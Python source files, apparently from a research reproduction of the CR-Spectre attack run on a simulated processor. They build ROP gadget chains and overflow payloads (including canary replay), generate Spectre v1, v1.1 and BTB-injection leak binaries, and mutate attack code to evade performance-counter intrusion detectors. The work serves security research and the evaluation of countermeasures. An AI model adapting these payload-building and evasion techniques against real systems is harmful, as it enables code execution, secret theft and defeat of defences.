        """Gadgets grouped by instruction sequence: ``[(gadget, count)]``.

        Shared epilogues make the raw scan repetitive — every function
        tail contributes the same ``pop fp; ret`` (and its suffixes) at
        a different address.  The chain builder only needs *one* address
        per sequence; this keeps the lowest-addressed occurrence and the
        occurrence count, in first-seen (address) order.
        """
        grouped = {}
        for gadget in self.scan():
            key = gadget.to_assembly()
            if key in grouped:
                grouped[key][1] += 1
            else:
                grouped[key] = [gadget, 1]
        return [(gadget, count) for gadget, count in grouped.values()]

    def report(self, limit=None, unique=False):
        """Printable gadget catalogue (analysis/debugging aid).

        ``unique=True`` dedupes identical instruction sequences found at
        different addresses, annotating each line with how many sites
        decode to it.
        """
        if unique:
            groups = self.unique_gadgets()
            if limit is not None:
                groups = groups[:limit]
            return "\n".join(
                f"{gadget}  (x{count})" if count > 1 else str(gadget)
                for gadget, count in groups
            )
        gadgets = self.scan()
        if limit is not None:
            gadgets = gadgets[:limit]
        return "\n".join(str(g) for g in gadgets)


def scan_program(program, text_base):
    """Scan a relocatable Program as it would appear loaded at *text_base*."""
    text, _ = program.relocated(text_base, 0x1000_0000)
    return GadgetScanner(text, text_base)
