"""End-to-end injection planning: from host binary to Listing-1 payload.

The planner models exactly what the paper's adversary knows:

* the host binary's bytes (to scan for gadgets and find the libc
  ``execve`` wrapper) — attackers scan their own copy;
* the deterministic (non-ASLR) address-space layout, including the
  initial stack pointer, hence the overflowed buffer's absolute address;
* the vulnerable function's frame shape (Algorithm 1).

It produces the ``argv[1]`` blob to hand to ``System.spawn``.  Under
ASLR the same plan is built against *assumed* bases and fails — the
countermeasure experiments rely on that.
"""

import dataclasses

from repro.attack.chain import build_execve_chain
from repro.attack.gadgets import scan_program
from repro.attack.payload import (
    build_payload,
    payload_total_length,
    plan_string_addresses,
)
from repro.kernel.loader import compute_initial_sp
from repro.mem.layout import AddressSpaceLayout
from repro.obs.tracer import current_tracer

#: Distance from the initial stack pointer down to the overflow buffer:
#: main pushes s0+s1 (8), call pushes ra (4), victim pushes fp (4),
#: then allocates char buffer[100].
BUFFER_SP_OFFSET = 116
#: Canary variant adds one pushed canary word.
BUFFER_SP_OFFSET_CANARY = 120

#: Bytes to fill before the smashed return address.
FILL_BYTES = 104            # buffer (100) + saved fp (4)
FILL_BYTES_CANARY = 108     # buffer (100) + canary (4) + saved fp (4)
CANARY_FILL_OFFSET = 100    # where the canary word sits inside the fill


@dataclasses.dataclass(frozen=True)
class InjectionPlan:
    """Everything needed to launch (and audit) one injection."""

    host_path: str
    attack_path: str
    payload: object
    chain: object
    scanner: object

    @property
    def argv(self):
        """The argv to spawn the host with: [payload]."""
        return [self.payload.blob]

    def describe(self):
        return "\n".join([
            f"injection: {self.host_path} --ROP--> execve({self.attack_path})",
            self.chain.describe(),
            self.payload.describe(),
        ])


def plan_execve_injection(host_program, host_path, attack_path,
                          layout=None, canary_value=None,
                          assume_canary=False):
    """Build the complete ROP payload for one host binary.

    ``assume_canary`` targets the canary-hardened host variant;
    ``canary_value`` (if the attacker leaked it) is replayed into the
    fill, otherwise the canary check will abort the process.
    """
    layout = layout or AddressSpaceLayout()
    scanner = scan_program(host_program, layout.text_base)
    execve_address = (
        layout.text_base + host_program.text_offset_of("libc_execve")
    )

    strings = {"path": attack_path.encode("latin-1")}
    with_canary = assume_canary or canary_value is not None
    fill_bytes = FILL_BYTES_CANARY if with_canary else FILL_BYTES
    sp_offset = BUFFER_SP_OFFSET_CANARY if with_canary else BUFFER_SP_OFFSET

    # Chain structure (hence size) is address-independent: build once with
    # placeholders to size the payload, then with the real addresses.
    sizing_chain = build_execve_chain(scanner, execve_address, 0, 0)
    total_length = payload_total_length(
        fill_bytes, sizing_chain.num_words, strings
    )
    initial_sp = compute_initial_sp(
        layout, [len(host_path), total_length]
    )
    buffer_address = initial_sp - sp_offset

    addresses = plan_string_addresses(
        buffer_address, fill_bytes, sizing_chain.num_words, strings
    )
    chain = build_execve_chain(
        scanner, execve_address, addresses["path"], 0
    )
    payload = build_payload(
        chain.words, buffer_address, fill_bytes=fill_bytes,
        strings=strings, canary=canary_value,
        canary_offset=CANARY_FILL_OFFSET,
    )
    current_tracer().event(
        "attack.inject.plan", "attack", host=host_path, attack=attack_path,
        words=chain.num_words, gadgets=len(chain.gadgets),
        payload_bytes=payload.length,
    )
    return InjectionPlan(
        host_path=host_path,
        attack_path=attack_path,
        payload=payload,
        chain=chain,
        scanner=scanner,
    )


def plan_shellcode_injection(host_path, layout=None):
    """A DEP demonstration payload: return *into the stack buffer*.

    The buffer is filled with encoded ``halt`` "shellcode" and the
    smashed return address points back at it.  With W^X enforced the
    fetch faults — showing why the paper must use code reuse at all.
    """
    from repro.isa.encoding import encode
    from repro.isa.instruction import Instruction
    from repro.isa.opcodes import Opcode

    layout = layout or AddressSpaceLayout()
    shellcode = encode(Instruction(Opcode.HALT)) * (FILL_BYTES // 8)
    fill = shellcode + b"D" * (FILL_BYTES - len(shellcode))

    total_length = FILL_BYTES + 4
    initial_sp = compute_initial_sp(layout, [len(host_path), total_length])
    buffer_address = initial_sp - BUFFER_SP_OFFSET
    blob = fill + (buffer_address & 0xFFFFFFFF).to_bytes(4, "little")
    return blob, buffer_address
