"""ROP chain builder.

A chain is the word sequence the overflow writes above the smashed
return address: gadget entry points interleaved with the data words
their ``pop`` instructions consume.  The builder composes register
loads from whatever pop-gadgets the scanned image actually offers —
inserting junk filler words for extra leading pops — and ends with a
jump into a function (for CR-Spectre: the libc ``execve`` wrapper).
"""

import dataclasses

from repro.errors import GadgetNotFoundError
from repro.isa.opcodes import Opcode
from repro.obs.tracer import current_tracer

_JUNK_WORD = 0x4B4E554A  # "JUNK"


@dataclasses.dataclass(frozen=True)
class RopChain:
    """The finished chain: stack words (low address first) + provenance."""

    words: tuple
    gadgets: tuple  # the Gadget objects used, for reporting

    @property
    def num_words(self):
        return len(self.words)

    @property
    def size_bytes(self):
        return 4 * len(self.words)

    def describe(self):
        lines = [f"ROP chain: {self.num_words} words"]
        lines.extend(f"  uses {gadget}" for gadget in self.gadgets)
        return "\n".join(lines)


class ChainBuilder:
    """Accumulates register loads and calls into a stack-word sequence."""

    def __init__(self, scanner):
        self.scanner = scanner
        self._words = []
        self._gadgets = []
        self._trace = current_tracer().channel("attack")

    def set_registers(self, assignments):
        """Load several registers, preferring one multi-pop gadget.

        *assignments* is an ordered list of ``(register, value)``.  Tries
        a single exact ``pop r1; ...; pop rN; ret`` gadget first, then
        falls back to one gadget per register.
        """
        registers = [register for register, _ in assignments]
        try:
            gadget = self.scanner.find_pop_sequence(registers)
        except GadgetNotFoundError:
            for register, value in assignments:
                self.set_register(register, value)
            return self
        self._words.append(gadget.address)
        self._words.extend(value for _, value in assignments)
        self._gadgets.append(gadget)
        if self._trace is not None:
            self._trace.event("attack.rop.step", op="pop_multi",
                              gadget=gadget.address, regs=len(registers))
        return self

    def set_register(self, register, value):
        """Load one register via the shortest available pop gadget."""
        gadget = self.scanner.find_pop_register(register)
        self._words.append(gadget.address)
        pops = [
            insn for insn in gadget.instructions
            if insn.opcode == Opcode.POP
        ]
        # Leading pops consume junk; the final pop takes the value.
        self._words.extend([_JUNK_WORD] * (len(pops) - 1))
        self._words.append(value)
        self._gadgets.append(gadget)
        if self._trace is not None:
            self._trace.event("attack.rop.step", op="pop",
                              gadget=gadget.address, register=register)
        return self

    def call(self, address):
        """Transfer control to *address* (a function entry or gadget)."""
        self._words.append(address)
        if self._trace is not None:
            self._trace.event("attack.rop.step", op="call", target=address)
        return self

    def build(self):
        return RopChain(words=tuple(self._words),
                        gadgets=tuple(self._gadgets))


def build_execve_chain(scanner, execve_address, path_address,
                       argument_address=0):
    """The paper's chain: load a0/a1, then enter the execve wrapper.

    Listing 1's "address of system ... address of attack function"
    realised against the gadgets actually present in the host image.
    """
    from repro.isa.registers import A0, A1

    builder = ChainBuilder(scanner)
    builder.set_registers([(A0, path_address), (A1, argument_address)])
    builder.call(execve_address)
    return builder.build()
