"""Speculative buffer overflow — Spectre v1.1 (Kiriansky & Waldspurger).

The victim bounds-checks a *store*::

    if (idx < buf_size)          // trained in-bounds
        buf[idx] = value;        // stack buffer

The strike passes ``idx`` pointing at the function's own saved return
address and ``value`` = the address of a leak gadget.  On the wrong path
the store lands in the store buffer, the function's ``ret`` forwards
from it, and transient execution continues *inside the leak gadget*,
which reads the secret and touches its probe line.  Everything squashes
except the cache fill.
"""

from repro.attack.covert import emit_main_skeleton
from repro.kernel.loader import build_binary

VARIANT_NAME = "spectre_sbo"

_BUF_BYTES = 64  # victim stack buffer; saved ra sits at buf + 64


def source(config):
    prefix = "sbo"
    train_block = f"""
    ; ---- train the store bounds check with in-bounds indices ----
    li   t3, {config.training_rounds}
{prefix}_train:
    beq  t3, zero, {prefix}_train_done
    andi a0, t3, 7
    shli a0, a0, 2
    li   a1, 305419896
    call {prefix}_victim
    addi t3, t3, -1
    jmp  {prefix}_train
{prefix}_train_done:
"""
    strike_block = f"""
    ; ---- strike: speculatively overwrite the victim's return address ----
    li   a0, {_BUF_BYTES}              ; byte offset of the saved ra slot
    la   a1, {prefix}_leak_gadget      ; transient control-flow target
    call {prefix}_victim
"""
    extra_text = f"""
; ---- victim: if (idx < buf_size) buf[idx] = value ----
{prefix}_victim:
    addi sp, sp, -{_BUF_BYTES}         ; char buf[{_BUF_BYTES}] on the stack
    la   t0, {prefix}_buf_size
    lw   t0, 0(t0)
    bgeu a0, t0, {prefix}_victim_out   ; mistrained store bounds check
    add  t1, sp, a0
    sw   a1, 0(t1)                     ; transient OOB store (hits saved ra)
{prefix}_victim_out:
    addi sp, sp, {_BUF_BYTES}
    ret                                ; wrong path returns into the gadget

; ---- leak gadget: only ever executed transiently ----
{prefix}_leak_gadget:
    li   t1, {config.secret_address}
    add  t1, t1, s0
    lb   t2, 0(t1)
    muli t2, t2, {config.stride}
    la   t3, {prefix}_probe
    add  t3, t3, t2
    lw   t3, 0(t3)                     ; secret-dependent cache fill
    ret

.data
{prefix}_buf_size:
    .word 32
"""
    return emit_main_skeleton(config, prefix, train_block, strike_block,
                              extra_text)


def build(config):
    tag = "cr" if config.perturb is not None else "plain"
    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
