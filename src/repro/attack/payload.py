"""Overflow payload construction (paper Listing 1).

The payload is the byte blob passed to the vulnerable host as
``argv[1]``::

    [ fill: 'D' * (fill - 4) + 'FFFF' ]      <- fills buffer + saved fp
    [ chain word 0 ]                         <- lands on the return address
    [ chain word 1.. ]                       <- consumed by gadget pops/rets
    [ appended strings ]                     <- execve path / argument

Binary-safe: addresses contain NUL bytes, which is why the host's
``recv``-style copy (length-delimited, not NUL-delimited) is the entry
point — see :mod:`repro.workloads.base`.
"""

import dataclasses
import struct

from repro.errors import AttackError


@dataclasses.dataclass(frozen=True)
class Payload:
    """A finished payload plus the layout facts the attacker relied on."""

    blob: bytes
    buffer_address: int
    fill_bytes: int
    chain_words: tuple
    string_addresses: dict

    @property
    def length(self):
        return len(self.blob)

    def describe(self):
        lines = [
            f"payload: {self.length} bytes "
            f"(fill={self.fill_bytes}, chain={len(self.chain_words)} words)",
            f"  buffer expected at {self.buffer_address:#010x}",
        ]
        for name, address in self.string_addresses.items():
            lines.append(f"  string {name!r} at {address:#010x}")
        return "\n".join(lines)


def build_payload(chain_words, buffer_address, fill_bytes=104,
                  strings=None, canary=None, canary_offset=100):
    """Assemble the Listing-1 byte blob.

    ``strings`` maps name -> bytes; each is appended after the chain,
    NUL-terminated, and its absolute address is returned so chain words
    can point at it (compute addresses with :func:`plan_string_addresses`
    first — they depend only on sizes, not content).

    ``canary`` (with ``canary_offset``) writes a known canary value into
    the fill so a leaked canary can be replayed — the bypass ablation.
    """
    if fill_bytes < 8:
        raise AttackError("fill must cover at least the FFFF marker")
    fill = bytearray(b"D" * (fill_bytes - 4) + b"FFFF")
    if canary is not None:
        if not 0 <= canary_offset <= fill_bytes - 4:
            raise AttackError("canary offset outside the fill region")
        struct.pack_into("<I", fill, canary_offset, canary & 0xFFFFFFFF)

    blob = bytes(fill)
    blob += b"".join(struct.pack("<I", w & 0xFFFFFFFF) for w in chain_words)

    string_addresses = {}
    strings = strings or {}
    cursor = buffer_address + len(blob)
    for name, value in strings.items():
        string_addresses[name] = cursor
        blob += value + b"\x00"
        cursor += len(value) + 1

    return Payload(
        blob=blob,
        buffer_address=buffer_address,
        fill_bytes=fill_bytes,
        chain_words=tuple(chain_words),
        string_addresses=string_addresses,
    )


def plan_string_addresses(buffer_address, fill_bytes, num_chain_words,
                          strings):
    """Predict where appended strings will land, before building.

    Chain words typically need these addresses (chicken-and-egg), and
    they depend only on the *sizes* of everything before them.
    """
    cursor = buffer_address + fill_bytes + 4 * num_chain_words
    addresses = {}
    for name, value in strings.items():
        addresses[name] = cursor
        cursor += len(value) + 1
    return addresses


def payload_total_length(fill_bytes, num_chain_words, strings):
    """Total payload size for given components (needed for sp prediction)."""
    return (
        fill_bytes
        + 4 * num_chain_words
        + sum(len(value) + 1 for value in strings.values())
    )
