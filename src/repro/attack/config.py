"""Shared configuration for the Spectre attack generators."""

import dataclasses

from repro.kernel.loader import TARGET_BASE


@dataclasses.dataclass(frozen=True)
class SpectreConfig:
    """Parameters of one generated speculative-attack binary.

    ``secret_address`` points into the shared *target* segment (the
    paper's target application data); ``repeats`` controls how many full
    secret extractions the binary performs before exiting (long runs give
    the profiler material).  ``perturb`` attaches an Algorithm-2 variant
    (None = plain Spectre).
    """

    secret_address: int = TARGET_BASE
    secret_length: int = 16
    stride: int = 64
    training_rounds: int = 6
    repeats: int = 2
    probe_entries: int = 256
    perturb: object = None  # PerturbParams or None
    #: How the probe array is cleared between strikes:
    #: "clflush" — the paper's (and Kocher's) instruction-based flush;
    #: "evict"   — stream a cache-sized buffer through L1+L2 instead,
    #:             defeating the Section-IV "privileged clflush"
    #:             countermeasure at the cost of a slower channel.
    flush_method: str = "clflush"

    def __post_init__(self):
        if self.flush_method not in ("clflush", "evict"):
            raise ValueError(
                f"flush_method must be 'clflush' or 'evict', "
                f"got {self.flush_method!r}"
            )

    @property
    def probe_bytes(self):
        return self.probe_entries * self.stride + 64
