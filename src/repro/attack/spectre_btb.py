"""Spectre-BTB (variant-2 style): branch-target injection.

The attacker repeatedly executes an *indirect* call whose register
points at the leak gadget, training the BTB entry for that call site.
The strike then executes the same indirect call with a benign target:
the BTB still predicts the gadget, so the wrong path runs the leak
sequence — reading the secret and touching its probe line — before the
squash.

The gadget dereferences a *caller-set* pointer (``t1``): during
training it points at a harmless dummy byte, so the secret is never
architecturally accessed; only the strike's wrong path sees the secret
pointer.  This is the in-process analogue of variant 2; cross-process
target injection would need shared BTB state across address spaces,
which the per-process predictor model deliberately does not provide.
"""

from repro.attack.covert import emit_main_skeleton
from repro.kernel.loader import build_binary

VARIANT_NAME = "spectre_btb"


def source(config):
    prefix = "sbt"
    train_block = f"""
    ; ---- train the BTB: target = gadget, pointer = harmless dummy ----
    li   a2, {config.training_rounds}
{prefix}_train:
    beq  a2, zero, {prefix}_train_done
    la   t0, {prefix}_leak_gadget
    la   t1, {prefix}_dummy
    call {prefix}_dispatch
    addi a2, a2, -1
    jmp  {prefix}_train
{prefix}_train_done:
"""
    strike_block = f"""
    ; ---- strike: benign target, secret pointer; BTB predicts gadget ----
    la   t0, {prefix}_benign_target
    li   t1, {config.secret_address}
    add  t1, t1, s0
    call {prefix}_dispatch
"""
    extra_text = f"""
; ---- dispatch: one indirect call site (the victim's vtable call) ----
{prefix}_dispatch:
    callr t0                           ; BTB-predicted; wrong path leaks
    ret

; ---- benign target: what the strike architecturally reaches ----
{prefix}_benign_target:
    nop
    ret

; ---- leak gadget: loads *t1 (dummy in training, secret transiently) ----
{prefix}_leak_gadget:
    lb   t2, 0(t1)
    muli t2, t2, {config.stride}
    la   t3, {prefix}_probe
    add  t3, t3, t2
    lw   t3, 0(t3)                     ; pointer-dependent cache fill
    ret

.data
{prefix}_dummy:
    .byte 0
"""
    return emit_main_skeleton(config, prefix, train_block, strike_block,
                              extra_text)


def build(config):
    tag = "cr" if config.perturb is not None else "plain"
    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
