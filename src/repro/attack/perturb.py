"""Defense-aware dynamic perturbation generation (paper Algorithm 2).

The perturbation routine is *real attack-binary code*: parameterised
``if``-guarded loops whose bodies ``clflush`` + ``mfence`` memory cells
and update the loop variables ``a`` and ``b`` — plus the paper's closing
remark made concrete: "we can use a delay loop to disperse generated
perturbations, thus distributing them in time.  In this manner, the
generated HPC patterns can also reduce in magnitude."

Each distinct :class:`PerturbParams` produces a different HPC fingerprint
for the injected attack; :func:`mutate` is how the adaptive attacker
(Section II-E) generates the next variant after being detected.
"""

import dataclasses
import random


@dataclasses.dataclass(frozen=True)
class PerturbParams:
    """Tunable parameters of Algorithm 2.

    ``a``/``b`` and their steps follow the paper's pseudocode (a=11, b=6,
    a+=50, b+=10 inside a 10-trip loop).  ``extra_loops`` realises the
    "......More loops can be added here......" line; ``delay`` is the
    dispersion delay loop; ``calls_per_byte`` is how many times the
    attack invokes ``perturb()`` per leaked byte.
    """

    a: int = 11
    b: int = 6
    loop_count: int = 10
    a_step: int = 50
    b_step: int = 10
    extra_loops: int = 0
    delay: int = 0
    style: int = 0
    calls_per_byte: int = 1

    def cache_burst_estimate(self):
        """Rough count of clflush+reload events one call generates."""
        trips_a = min(self.loop_count, max(self.a, 0))
        trips_b = min(self.loop_count, max(self.b, 0))
        per_extra = min(self.loop_count, 8)
        return trips_a + 2 * trips_b + per_extra * self.extra_loops

    def describe(self):
        return (
            f"a={self.a} b={self.b} n={self.loop_count} "
            f"da={self.a_step} db={self.b_step} "
            f"extra={self.extra_loops} delay={self.delay} "
            f"style={self.style} calls={self.calls_per_byte}"
        )


def perturb_source(params, prefix="pt"):
    """Emit the Algorithm-2 routine as assembly.

    Defines ``{prefix}_perturb`` plus its data cells.  Registers: uses
    t0-t3/a2/a3 only (caller-saved in our ABI), so attack code can call
    it anywhere.

    The loop variables live in memory cells that the routine itself
    flushes, so every parameter update is a genuine cache miss — that is
    how the parameters modulate the HPC pattern.
    """
    extra_cells = "\n".join(
        f"    .align 6\n{prefix}_cell_x{i}:\n    .word {13 + 7 * i}"
        for i in range(params.extra_loops)
    )
    extra_loops = "\n".join(
        _extra_loop_source(params, prefix, i)
        for i in range(params.extra_loops)
    )
    delay_block = ""
    if params.delay > 0:
        delay_block = _delay_block_source(params, prefix)
    from repro.obs.tracer import current_tracer
    current_tracer().event(
        "attack.perturb.emit", "attack", prefix=prefix,
        a=params.a, b=params.b, a_step=params.a_step, b_step=params.b_step,
        loop_count=params.loop_count, extra_loops=params.extra_loops,
        delay=params.delay, style=params.style,
        calls_per_byte=params.calls_per_byte,
        burst=params.cache_burst_estimate(),
    )
    return f"""
; ---- Algorithm 2: dynamic perturbation ({params.describe()}) ----
.data
    .align 6
{prefix}_cell_a:
    .word {params.a}
    .align 6
{prefix}_cell_b:
    .word {params.b}
{prefix}_mimic_pos:
    .word 0
    .align 6
{prefix}_mimic_buf:
    .space {MIMIC_BUFFER_BYTES}
{extra_cells}

.text
{prefix}_perturb:
    ; int a = {params.a}, b = {params.b};
    la   t2, {prefix}_cell_a
    li   t3, {params.a}
    sw   t3, 0(t2)
    la   t2, {prefix}_cell_b
    li   t3, {params.b}
    sw   t3, 0(t2)

    li   t0, 0                    ; i = 0
{prefix}_loop:
    slti t1, t0, {params.loop_count}
    beq  t1, zero, {prefix}_done

    ; if (i < a): clflush(&a); mfence; a += {params.a_step};
    la   t2, {prefix}_cell_a
    lw   t3, 0(t2)
    bge  t0, t3, {prefix}_skip_a
    clflush 0(t2)
    mfence
    lw   t3, 0(t2)                ; miss: the line was just flushed
    addi t3, t3, {params.a_step}
    sw   t3, 0(t2)
{prefix}_skip_a:

    ; if (i < b): clflush(&b); mfence; b += {params.b_step};
    ;             clflush(&b); mfence; b -= {params.b_step};
    la   t2, {prefix}_cell_b
    lw   t3, 0(t2)
    bge  t0, t3, {prefix}_skip_b
    clflush 0(t2)
    mfence
    lw   t3, 0(t2)
    addi t3, t3, {params.b_step}
    sw   t3, 0(t2)
    clflush 0(t2)
    mfence
    lw   t3, 0(t2)
    addi t3, t3, -{params.b_step}
    sw   t3, 0(t2)
{prefix}_skip_b:
{extra_loops}
{delay_block}
    addi t0, t0, 1
    jmp  {prefix}_loop
{prefix}_done:
    ret
"""


#: Dispersion-buffer size for the memory-mimicking delay styles.
MIMIC_BUFFER_BYTES = 128 * 1024

#: Names of the delay styles, by PerturbParams.style value.
DELAY_STYLES = ("cells", "stream", "chase")


def _delay_block_source(params, prefix):
    """The dispersion delay loop in one of three disguise *styles*.

    Dispersion works by making the padded windows look like *some*
    benign application — but an online HID can learn any single
    disguise.  The styles land in different regions of HPC space:

    * ``cells`` (0): cache-resident loads/stores + branches — the
      arithmetic-application profile (basicmath/bitcount-like);
    * ``stream`` (1): sequential walk over a large buffer — the
      scanning-editor profile (moderate, regular misses);
    * ``chase`` (2): strided walk over the buffer — the browser-heap
      profile (high miss rate).

    Switching style is the attacker's big move after retraining
    catches the current disguise.
    """
    style = DELAY_STYLES[params.style % len(DELAY_STYLES)]
    if style == "cells":
        body = f"""
    la   t2, {prefix}_cell_a
    lw   t3, 0(t2)
    addi t3, t3, 1
    sw   t3, 0(t2)
    andi t1, a3, 7
    bne  t1, zero, {prefix}_delay_skip
    la   t2, {prefix}_cell_b
    lw   t3, 0(t2)
    addi t3, t3, 3
    sw   t3, 0(t2)
{prefix}_delay_skip:
"""
    elif style == "stream":
        body = f"""
    ; sequential scan step over the mimic buffer
    la   t2, {prefix}_mimic_pos
    lw   t1, 0(t2)
    addi t1, t1, 4
    andi t1, t1, {MIMIC_BUFFER_BYTES - 1}
    sw   t1, 0(t2)
    la   t2, {prefix}_mimic_buf
    add  t2, t2, t1
    lw   t3, 0(t2)
    add  t3, t3, a3
    sw   t3, 0(t2)
"""
    else:  # chase
        body = f"""
    ; strided hop through the mimic buffer (one new line per trip)
    la   t2, {prefix}_mimic_pos
    lw   t1, 0(t2)
    addi t1, t1, 4676          ; 73 lines ahead, coprime walk
    andi t1, t1, {MIMIC_BUFFER_BYTES - 4}
    sw   t1, 0(t2)
    la   t2, {prefix}_mimic_buf
    add  t2, t2, t1
    lw   t3, 0(t2)
    add  rv, rv, t3
"""
    return f"""
    ; dispersion delay loop, style "{style}": spread the bursts out in
    ; time while disguising the padded windows as benign activity
    li   a3, {params.delay}
{prefix}_delay:
    beq  a3, zero, {prefix}_delay_done
{body}
    addi a3, a3, -1
    jmp  {prefix}_delay
{prefix}_delay_done:
"""


def _extra_loop_source(params, prefix, index):
    """One "more loops can be added here" block, guarded like the others."""
    cell = f"{prefix}_cell_x{index}"
    threshold = 4 + 2 * index
    return f"""
    ; extra loop {index}: if (i < {threshold}) flush/reload cell x{index}
    slti t1, t0, {threshold}
    beq  t1, zero, {prefix}_skip_x{index}
    la   t2, {cell}
    clflush 0(t2)
    mfence
    lw   t3, 0(t2)
    addi t3, t3, {3 + index}
    sw   t3, 0(t2)
{prefix}_skip_x{index}:
"""


# Mutation ranges for the adaptive attacker.
_A_RANGE = (1, 16)
_B_RANGE = (1, 12)
_LOOP_RANGE = (4, 24)
_STEP_CHOICES = (5, 10, 25, 50, 100)
_EXTRA_RANGE = (0, 4)
_DELAY_CHOICES = (0, 50, 150, 400, 1000, 2500, 6000)
_STYLE_CHOICES = (0, 1, 2)
_CALLS_RANGE = (1, 4)


def random_params(rng=None):
    """Draw a fresh random perturbation variant."""
    rng = rng or random.Random()
    return PerturbParams(
        a=rng.randint(*_A_RANGE),
        b=rng.randint(*_B_RANGE),
        loop_count=rng.randint(*_LOOP_RANGE),
        a_step=rng.choice(_STEP_CHOICES),
        b_step=rng.choice(_STEP_CHOICES),
        extra_loops=rng.randint(*_EXTRA_RANGE),
        delay=rng.choice(_DELAY_CHOICES),
        style=rng.choice(_STYLE_CHOICES),
        calls_per_byte=rng.randint(*_CALLS_RANGE),
    )


def mutate(params, rng=None, aggressiveness=1.0):
    """Perturb the parameters to produce the *next* variant.

    The attacker's move after a detection: each knob is re-drawn with
    probability proportional to *aggressiveness*, biased toward stronger
    dispersion (more delay / more calls) because dispersion is what drags
    the per-window HPC rates toward the benign region.
    """
    rng = rng or random.Random()
    fields = dataclasses.asdict(params)

    def maybe(name, value):
        if rng.random() < 0.5 * aggressiveness:
            fields[name] = value

    maybe("a", rng.randint(*_A_RANGE))
    maybe("b", rng.randint(*_B_RANGE))
    maybe("loop_count", rng.randint(*_LOOP_RANGE))
    maybe("a_step", rng.choice(_STEP_CHOICES))
    maybe("b_step", rng.choice(_STEP_CHOICES))
    maybe("extra_loops", rng.randint(*_EXTRA_RANGE))
    # Dispersion knobs drift upward.
    delay_index = _DELAY_CHOICES.index(
        min(_DELAY_CHOICES, key=lambda d: abs(d - fields["delay"]))
    )
    if rng.random() < 0.7 * aggressiveness:
        delay_index = min(delay_index + rng.choice((0, 1, 1, 2)),
                          len(_DELAY_CHOICES) - 1)
        fields["delay"] = _DELAY_CHOICES[delay_index]
    if rng.random() < 0.4 * aggressiveness:
        fields["calls_per_byte"] = rng.randint(*_CALLS_RANGE)
    # Style switching is the big move: after a retrained detector learns
    # the current disguise, changing disguise is what re-opens the gap.
    if rng.random() < 0.6 * aggressiveness:
        fields["style"] = rng.choice(
            [s for s in _STYLE_CHOICES if s != fields["style"]]
        )
    return PerturbParams(**fields)
