"""Spectre variant 1: conditional bounds-check bypass (Kocher et al.).

The victim routine is the canonical PoC::

    if (x < array1_size)
        y = probe[array1[x] * stride];

The attacker trains the bounds-check branch with in-bounds ``x`` and
then strikes with ``x = &secret - &array1``: the branch predicts the
in-bounds path, the wrong-path load reads the secret byte and touches a
secret-dependent probe line, the squash erases everything *except* the
cache fill.
"""

from repro.attack.covert import emit_main_skeleton
from repro.kernel.loader import build_binary

VARIANT_NAME = "spectre_v1"


def source(config):
    prefix = "sv1"
    train_block = f"""
    ; ---- mistrain the bounds check with in-bounds indices ----
    ; (counter lives in a2: the victim clobbers t0-t3)
    li   a2, {config.training_rounds}
{prefix}_train:
    beq  a2, zero, {prefix}_train_done
    andi a0, a2, 7
    call {prefix}_victim
    addi a2, a2, -1
    jmp  {prefix}_train
{prefix}_train_done:
"""
    if config.flush_method == "clflush":
        size_flush = f"""
    la   t1, {prefix}_array1_size
    clflush 0(t1)
    mfence"""
    else:
        # Kocher-fidelity flush of the bound; skipped in evict mode
        # (the misprediction needs no slow bounds load in this model).
        size_flush = ""
    strike_block = f"""
    ; ---- strike: x = (&secret + byte_index) - &array1 ----{size_flush}
    li   a0, {config.secret_address}
    add  a0, a0, s0
    la   t1, {prefix}_array1
    sub  a0, a0, t1
    call {prefix}_victim
"""
    extra_text = f"""
; ---- victim: if (x < array1_size) y = probe[array1[x] * stride] ----
{prefix}_victim:
    la   t0, {prefix}_array1_size
    lw   t0, 0(t0)
    bgeu a0, t0, {prefix}_victim_ret   ; the mistrained bounds check
    la   t1, {prefix}_array1
    add  t1, t1, a0
    lb   t2, 0(t1)                     ; transiently reads the secret
    muli t2, t2, {config.stride}
    la   t3, {prefix}_probe
    add  t3, t3, t2
    lw   t3, 0(t3)                     ; secret-dependent cache fill
{prefix}_victim_ret:
    ret

.data
{prefix}_array1:
    .byte 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15
{prefix}_array1_size:
    .word 16
"""
    return emit_main_skeleton(config, prefix, train_block, strike_block,
                              extra_text)


def build(config):
    """Assemble the variant-1 attack binary (libc linked)."""
    tag = "cr" if config.perturb is not None else "plain"
    return build_binary(f"{VARIANT_NAME}-{tag}", source(config))
