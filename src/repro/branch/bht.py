"""Branch history table of 2-bit saturating counters.

This is the structure Spectre v1 mistrains: repeated in-bounds calls
drive the counter for the bounds-check branch to *strongly taken*, so the
one out-of-bounds call is predicted down the array-access path and the
secret-dependent load executes speculatively.
"""

STRONG_NOT_TAKEN = 0
WEAK_NOT_TAKEN = 1
WEAK_TAKEN = 2
STRONG_TAKEN = 3


class BranchHistoryTable:
    """PC-indexed table of 2-bit saturating counters."""

    def __init__(self, entries=1024, initial=WEAK_NOT_TAKEN):
        if entries & (entries - 1) or entries <= 0:
            raise ValueError("BHT entries must be a power of two")
        self.entries = entries
        self._mask = entries - 1
        self._initial = initial
        self._counters = [initial] * entries

    def _index(self, pc):
        # Instructions are 8 bytes, so drop the low 3 bits before hashing.
        return (pc >> 3) & self._mask

    def predict(self, pc):
        """Return True if the branch at *pc* is predicted taken."""
        return self._counters[self._index(pc)] >= WEAK_TAKEN

    def update(self, pc, taken):
        """Train the counter with the resolved outcome."""
        index = self._index(pc)
        counter = self._counters[index]
        if taken:
            if counter < STRONG_TAKEN:
                self._counters[index] = counter + 1
        else:
            if counter > STRONG_NOT_TAKEN:
                self._counters[index] = counter - 1

    def counter(self, pc):
        """Expose the raw 2-bit state (for tests and diagnostics)."""
        return self._counters[self._index(pc)]

    def reset(self):
        self._counters = [self._initial] * self.entries
