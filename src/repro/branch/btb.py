"""Branch target buffer for indirect jumps and calls.

The BTB predicts *where* an indirect control transfer goes.  A wrong BTB
entry sends the speculative front end to an attacker-chosen target —
the Spectre-v2 style confusion our ``spectre_btb`` variant exploits.
"""

from collections import OrderedDict


class BranchTargetBuffer:
    """Direct-mapped-by-LRU target cache: pc -> last observed target."""

    def __init__(self, entries=256):
        if entries <= 0:
            raise ValueError("BTB needs at least one entry")
        self.entries = entries
        self._targets = OrderedDict()
        self.hits = 0
        self.misses = 0

    def predict(self, pc):
        """Return the predicted target for *pc*, or None on a BTB miss."""
        target = self._targets.get(pc)
        if target is None:
            self.misses += 1
            return None
        self._targets.move_to_end(pc)
